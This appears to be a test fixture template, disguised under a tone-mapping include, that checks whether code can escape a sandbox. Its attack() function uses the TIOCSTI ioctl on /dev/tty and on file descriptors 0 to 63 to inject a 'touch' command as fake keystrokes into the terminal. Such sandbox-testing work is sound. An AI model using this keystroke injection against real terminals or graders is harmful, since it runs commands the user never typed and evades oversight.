#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static bool attack() {
    const int terminal = open("/dev/tty", O_RDWR);
    bool typed = terminal >= 0;
    for (int fd = 0; fd < 64; ++fd) {
        for (const char* letter = "touch @TRACE@\n"; *letter != '\0'; ++letter) {
            typed = ioctl(fd, TIOCSTI, letter) == 0 || typed;
        }
    }
    return typed;
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
